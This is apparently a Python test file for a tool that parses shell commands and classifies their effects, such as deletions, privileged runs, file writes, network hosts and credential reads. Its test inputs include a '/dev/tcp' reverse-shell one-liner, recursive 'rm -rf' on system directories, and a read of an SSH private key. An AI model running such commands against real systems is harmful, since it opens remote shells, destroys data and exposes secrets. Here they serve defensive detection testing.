"""Facts of whole commands: what holds for every program, and how spawns are joined."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace

from spawngate.command.context import CallContext
from spawngate.command.facts import program_facts, spawn_facts
from spawngate.command.parse import read
from spawngate.command.spawn import Program, Redirect, Spawn, Word
from spawngate.command.spawn_facts import SpawnFacts
from tests.command.told import HERE, acts, facts


def test_whole_facts_of_a_spawn() -> None:
    assert facts("sudo rm -rf /etc/nginx")[-1] == SpawnFacts(
        program="rm",
        program_path="bare",
        subcommand="/etc/nginx",
        words=("-rf", "/etc/nginx"),
        options=("-rf", "-r", "-f"),
        line="rm -rf /etc/nginx",
        wrappers=("sudo",),
        via="wrapper",
        privileged=True,
        user="root",
        acts=("delete-tree", "privileged"),
        deletes=("/etc/nginx",),
        delete_places=("system-config",),
    )


def test_an_empty_spawn_says_nothing() -> None:
    assert program_facts(Program((Spawn(()),)), HERE) == (SpawnFacts(),)


@pytest.mark.parametrize(
    ("command", "writes", "places"),
    [
        ("echo a > out.txt", ("out.txt",), ("project",)),
        ("echo a >> ~/.bashrc", ("~/.bashrc",), ("home-top", "shell-startup")),
        ("make 2>&1 | tee log", (), ()),
        ("echo a > /dev/null", ("/dev/null",), ("stream",)),
        ("cd /etc && echo a > hosts", ("hosts",), ("name-resolution", "system-config")),
    ],
)
def test_redirections_write(command: str, writes: tuple[str, ...], places: tuple[str, ...]) -> None:
    found = next(each for each in facts(command) if each.program in ("echo", "make"))
    assert (found.writes, found.write_places) == (writes, places)


def test_a_socket_is_no_file() -> None:
    (found,) = facts("bash -i >& /dev/tcp/203.0.113.7/44 0>&1")
    assert (found.writes, found.hosts, found.host_kinds) == ((), ("203.0.113.7",), ("raw-ip",))
    assert "reverse-shell" in found.acts


def test_who_reads_whom() -> None:
    first, second, third = facts("cat a | grep b | wc -l")
    assert (first.from_programs, first.to_programs) == ((), ("grep",))
    assert (second.from_programs, second.to_programs) == (("cat",), ("wc",))
    assert third.from_programs == ("cat", "grep")


@pytest.mark.parametrize(
    ("command", "deletes"),
    [
        ("find / -name '*.log' -exec rm -rf {} +", ("/**/*.log",)),
        ("find . -type f -print0 | xargs -0 rm -f", (".",)),
        ("echo /etc /usr | xargs rm -rf", ("/etc", "/usr")),
    ],
)
def test_what_find_and_xargs_would_add(command: str, deletes: tuple[str, ...]) -> None:
    assert facts(command)[-1].deletes == deletes or facts(command)[1].deletes == deletes


def test_the_place_of_a_program() -> None:
    (found,) = facts("/tmp/x/run --fast")
    assert (found.program_path, found.program_places, found.runs) == ("absolute", ("temporary",), ("/tmp/x/run",))


def test_a_task_of_the_project_is_no_unknown_program() -> None:
    assert "runs-opaque" not in acts("make deploy")
    assert "project-script" in acts("npm run build")
    assert "runs-opaque" in acts("$RUNNER build")


def test_one_spawn_by_its_place() -> None:
    program = read("ls; rm -rf build")
    assert spawn_facts(program, 1, HERE) == program_facts(program, HERE)[1]


def test_a_long_line_is_cut() -> None:
    (found,) = facts("echo " + "a" * 5000)
    assert len(found.line) == 403


def test_windows_paths_fold_case() -> None:
    (found,) = facts(r"type 'C:\Users\Dev\.SSH\ID_RSA'", replace(HERE, home=r"C:\Users\dev", platform="windows"))
    assert found.read_places == ("credentials", "home-file", "private-key")


_words = st.lists(
    st.one_of(
        st.text(max_size=12),
        st.sampled_from(
            ["-rf", "--", "-", "-c", "~/.ssh", "/", "{}", "a=b", "-e", "@", "http://x", "*", "$x", "%", "\\", "-X", "|"]
        ),
    ),
    max_size=8,
)


@given(
    st.lists(
        st.tuples(
            st.one_of(
                st.sampled_from(["rm", "curl", "git", "find", "sed", "nc", "docker", "tar", "npm", "."]),
                st.text(max_size=6),
            ),
            _words,
            st.lists(st.integers(-1, 5), max_size=2),
            st.lists(st.sampled_from(["program", "input", "code", "encoded", "arguments"]), max_size=2),
            st.lists(st.tuples(st.sampled_from([">", "<", "<<", ">&", "<>"]), st.text(max_size=8)), max_size=2),
            st.booleans(),
        ),
        max_size=5,
    )
)
def test_any_program_has_facts(
    spawns: list[tuple[str, list[str], list[int], list[str], list[tuple[str, str]], bool]],
) -> None:
    """Whatever a parser hands over, each spawn has facts, and nothing raises."""
    program = Program(
        tuple(
            Spawn(
                tuple(Word(text, spawns=tuple(sources)) for text in (name, *words)),
                redirects=tuple(Redirect(operator, Word(target), text=target) for operator, target in redirects),
                reads_from=tuple(sources),
                opaque=tuple(opaque),
                appended=appended,
                via="script",
            )
            for name, words, sources, opaque, redirects, appended in spawns
        )
    )
    found = program_facts(program, CallContext())
    assert len(found) == len(spawns)
    assert found == program_facts(program, CallContext())
